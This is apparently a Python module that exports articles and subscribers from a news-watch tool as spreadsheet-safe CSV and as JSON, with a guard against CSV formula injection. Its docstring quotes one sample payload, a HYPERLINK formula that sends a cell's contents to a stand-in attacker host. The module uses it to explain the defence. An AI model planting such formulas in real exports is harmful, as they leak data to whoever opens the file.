"""Tables going out to spreadsheets and scripts: CSV cells that cannot run, article exports.

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula when the file is opened: a feed
title such as ``=HYPERLINK("https://evil.example/?"&A1, "Cliquez")`` would leak or mislead
(OWASP "CSV injection"). :func:`safe_cell` quotes such cells with a leading apostrophe, which
spreadsheets show as text; every CSV veille writes goes through it.

Every CSV file is written by :func:`spreadsheet_csv`: ``;`` between cells and a byte-order mark
before UTF-8, what French Excel needs to open it in columns with its accents (a comma-separated
file without the mark opens as one garbled column).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from typing import Any

from veille.models import ExportRow, Subscriber

FORMULA_STARTS = frozenset("=+-@\t\r")
BOM = "\ufeff"
DELIMITER = ";"


def safe_cell(value: str) -> str:
    """``value`` as a cell a spreadsheet shows as text, never runs (see the module docstring)."""
    first = value.lstrip(" ")[:1]
    return "'" + value if first in FORMULA_STARTS else value


def spreadsheet_csv(rows: Iterable[Sequence[str]]) -> str:
    """Rows (already safe cells) as a CSV file French spreadsheets open as it is: a byte-order
    mark, ``;`` between cells, CRLF line ends, quotes where RFC 4180 wants them."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, delimiter=DELIMITER, lineterminator="\r\n")
    writer.writerows(rows)
    return buffer.getvalue()


def articles_csv(rows: Sequence[ExportRow], columns: Sequence[str]) -> str:
    """Rows as a spreadsheet CSV (:func:`spreadsheet_csv`): lists joined with ``, ``, dates
    ISO 8601 UTC, every text cell through :func:`safe_cell`."""
    body = ([_csv_value(getattr(row, c)) for c in columns] for row in rows)
    return spreadsheet_csv([list(columns), *body])


SUBSCRIBER_COLUMNS = ("email", "name", "tags", "lang")  # what `veille subscribers import` reads


def subscribers_csv(rows: Sequence[Subscriber]) -> str:
    """The subscribers still subscribed, as a spreadsheet CSV that ``veille subscribers
    import`` (and the app's import) reads back: email, name, themes (``, ``), language."""
    body = (
        [safe_cell(r.email), safe_cell(r.name or ""), ", ".join(r.tags), r.lang or ""]
        for r in rows
        if r.active
    )
    return spreadsheet_csv([list(SUBSCRIBER_COLUMNS), *body])


def articles_json(rows: Sequence[ExportRow], columns: Sequence[str]) -> str:
    """Rows as a JSON array of objects (dates ISO 8601 UTC)."""
    data = [{c: _json_value(getattr(row, c)) for c in columns} for row in rows]
    return json.dumps(data, ensure_ascii=False, indent=2) + "\n"


def _csv_value(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list | tuple):
        return safe_cell(", ".join(str(v) for v in value))
    if isinstance(value, datetime):
        return _iso(value)
    if isinstance(value, float):
        return f"{value:.4f}"
    return safe_cell(str(value))


def _json_value(value: Any) -> Any:
    if isinstance(value, datetime):
        return _iso(value)
    if isinstance(value, tuple):
        return list(value)
    return value


def _iso(value: datetime) -> str:
    """In UTC, to the second, with a Z (a naive value is taken as UTC already)."""
    if value.tzinfo is not None:
        value = value.astimezone(UTC).replace(tzinfo=None)
    return value.replace(microsecond=0).isoformat() + "Z"
